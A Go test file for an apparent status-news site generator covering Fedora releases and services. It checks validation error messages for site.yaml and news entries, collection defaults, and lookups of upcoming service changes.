		{"unknown field", testSiteYAML + "feed_item: 20\n",
			f + `:12:1: unknown field "feed_item" in site.yaml; did you mean "feed_items"?`},
		{"feed size out of range", testSiteYAML + "feed_items: 0\n",
			f + `:12:13: feed_items must be a whole number from 1 to 1000, not "0"`},
		{"collection without a name", testSiteYAML + "  - id: f44\n    name: F44\n    collection: {version: \"44\"}\n",
			f + `:14:17: collection of f44 has no name: give the os-release NAME of its machines ("Fedora Linux") as its name, or as collections' name for every release`},
		{"collection without a version", testSiteYAML + "  - id: f44\n    name: F44\n    collection: {name: Fedora Linux}\n",
			f + `:14:17: missing field "version" in collection: the number GNOME Software compares with os-release VERSION_ID, like "43"`},
		{"collection version of two words", testSiteYAML + "  - id: f44\n    name: F44\n    collection: {name: Fedora Linux, version: 4 4}\n",
			f + `:14:47: collection version "4 4" must be one word, like "43", or "devel" for a branch with no number`},
		{"collection given twice", testSiteYAML + "  - id: f44\n    name: F44\n    collection: {version: \"44\"}\n  - id: f45\n    name: F45\n    collection: {version: 44}\ncollections: {name: Fedora Linux}\n",
			f + `:17:17: collection "Fedora Linux" version "44" is given by release f44 too (line 14): GNOME Software could not tell them apart`},
		{"collections path not from the root", testSiteYAML + "collections:\n  path: api/collections\n",
			f + `:13:9: collections path "api/collections" must be a path from the site's root to a .json file, like /api/pkgdb/collections.json`},
		{"collections path of a file bulletin makes", testSiteYAML + "collections:\n  path: /releases/collections.json\n",
			f + `:13:9: collections path "/releases/collections.json" is among the files bulletin makes itself; choose another, like /api/pkgdb/collections.json`},
		{"not YAML", "title: [\n",
			f + `:2:1: not valid YAML: did not find expected node content (while parsing a flow node)`},
		{"not YAML, no line break at the end", "title: [",
			f + `:1:9: not valid YAML: did not find expected node content (while parsing a flow node)`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := openTest(t, tt.yaml, nil)
			if err == nil || err.Error() != tt.want {
				t.Errorf("got:\n%v\nwant:\n%s", err, tt.want)
			}
		})
	}
}

// TestCollections checks that a release is a collection only when it
// gives its version, with the defaults filled in: the site's name, the
// release id as branch, the branch as build tag.
func TestCollections(t *testing.T) {
	site := strings.Replace(testSiteYAML, "    name: Fedora 43\n", "    name: Fedora 43\n    collection: {version: 43, dist_tag: .fc43}\n", 1) +
		"  - id: epel10\n    name: EPEL 10\n    collection: {name: Fedora EPEL, version: \"10\", branch: epel10.1, koji_name: epel10.1}\n" +
		"collections:\n  name: Fedora Linux\n  path: /pkgdb/api/collections.json\n"
	s, _, err := openTest(t, site, nil)
	if err != nil {
		t.Fatal(err)
	}
	if s.Collections.Path != "/pkgdb/api/collections.json" {
		t.Errorf("path %q", s.Collections.Path)
	}
	want := map[string]*Collection{
		"f43":    {Name: "Fedora Linux", Version: "43", Branch: "f43", KojiName: "f43", DistTag: ".fc43"},
		"epel10": {Name: "Fedora EPEL", Version: "10", Branch: "epel10.1", KojiName: "epel10.1"},
	}
	for _, r := range s.Releases {
		if w := want[r.ID]; (w == nil) != (r.Collection == nil) || w != nil && *w != *r.Collection {
			t.Errorf("%s: collection %+v, want %+v", r.ID, r.Collection, w)
		}
	}
	s, _, err = openTest(t, testSiteYAML, nil)
	if err != nil || s.Collections.Path != DefaultCollectionsPath {
		t.Errorf("without collections: path %q, %v", s.Collections.Path, err)
	}
}

// TestMisnamedRelease checks that a release id site.yaml rejects is one
// problem, in site.yaml, not one more in every entry that names it.
func TestMisnamedRelease(t *testing.T) {
	site := testSiteYAML + "  - id: F44\n    name: Fedora 44\n"
	files := map[string]string{
		"news/a.md": entry(strings.Replace(incident, "[f43]", "[f44]", 1)),
		"news/b.md": entry(strings.Replace(incident, "[f43]", "[f43, F44]", 1) + "downgrade:\n  f44: sudo dnf downgrade mesa\n"),
		"news/c.md": entry(strings.Replace(incident, "[f43]", "[f45]", 1)),
	}
	_, _, err := openTest(t, site, files)
	want := `content/news/c.md:4:12: unknown release "f45"; did you mean "f42"? known: f42, f43, f41, all` + "\n" +
		`content/site.yaml:12:9: release id "F44" must be lowercase letters, digits and hyphens, like f43 or fcos-stable`
	if err == nil || err.Error() != want {
		t.Errorf("got:\n%v\nwant:\n%s", err, want)
	}
}

func TestMissingSiteYAML(t *testing.T) {
	_, _, err := Load(t.Context(), fstest.MapFS{"news/x.md": {Data: []byte(entry(incident))}}, "content")
	want := "content/site.yaml: missing: every site needs one, with its title, base_url, id_authority and releases"
	if err == nil || err.Error() != want {
		t.Errorf("got:\n%v\nwant:\n%s", err, want)
	}
}

// TestServiceErrors pins the problems of entries that name services.
func TestServiceErrors(t *testing.T) {
	const f = "content/news/x.md"
	site := testSiteYAML + "services:\n  - id: koji\n    name: Koji\n  - id: bodhi\n    name: Bodhi\n"
	tests := []struct{ name, src, want string }{
		{"unknown service", entry("title: A\ndate: 2026-11-02\nservices: [kojji]\nseverity: minor\nstatus: investigating\n"),
			f + `:4:12: unknown service "kojji"; did you mean "koji"?`},
		{"a release as a service", entry("title: A\ndate: 2026-11-02\nservices: [f43]\nseverity: minor\nstatus: investigating\n"),
			f + `:4:12: f43 is a release, not a service: list it under releases`},
		{"a service as a release", entry("title: A\ndate: 2026-11-02\nreleases: [koji]\nseverity: minor\nstatus: investigating\n"),
			f + `:4:12: koji is a service, not a release: list it under services`},
		{"an incident of nothing", entry("title: A\ndate: 2026-11-02\nseverity: minor\nstatus: investigating\n"),
			f + `:1:1: missing field "releases": name the affected releases (f42, f43, f41) or all, or the affected services under services`},
		{"effective on an incident", entry("title: A\ndate: 2026-11-02\nservices: [koji]\nseverity: minor\nstatus: investigating\neffective: 2027-01-01\n"),
			f + `:7:12: effective applies to announcements only, and this entry is an incident (kind: incident)`},
	}
	for _, tt := range tests {
		_, _, err := openTest(t, site, map[string]string{"news/x.md": tt.src})
		if err == nil || err.Error() != tt.want {
			t.Errorf("%s:\n got %v\nwant %s", tt.name, err, tt.want)
		}
	}
	const yaml = "services:\n  - id: koji\n    name: Koji\n  - id: f43\n    name: Again\n  - id: koji\n    name: Twice\n  - name: Nameless\n"
	_, _, err := openTest(t, testSiteYAML+yaml, nil)
	want := "content/site.yaml:15:9: service id \"f43\" is the id of a release (line 7); releases and services need ids of their own\n" +
		"content/site.yaml:17:9: service id \"koji\" given twice (first at line 13)\n" +
		"content/site.yaml:19:5: missing field \"id\" in service 4"
	if err == nil || err.Error() != want {
		t.Errorf("site.yaml:\n got %v\nwant %s", err, want)
	}
	// An announcement may name services alone: it is not about every release.
	s, _, err := openTest(t, site, map[string]string{"news/x.md": entry("title: A\ndate: 2026-11-02\nkind: announcement\nservices: [bodhi, koji]\neffective: 2027-01-15T00:00:00Z\n")})
	if err != nil {
		t.Fatal(err)
	}
	e := s.Entries[0]
	if len(e.Releases) != 0 || e.AllReleases || strings.Join(e.Services, ",") != "koji,bodhi" {
		t.Errorf("releases %v (all %v), services %v", e.Releases, e.AllReleases, e.Services)
	}
	if got := s.UpcomingChanges("koji", time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)); len(got) != 1 {
		t.Errorf("upcoming changes of koji: %d", len(got))
	}
	if got := s.NextChange(time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)); !got.Equal(e.Effective) {
		t.Errorf("next change %v, want %v", got, e.Effective)
	}
}
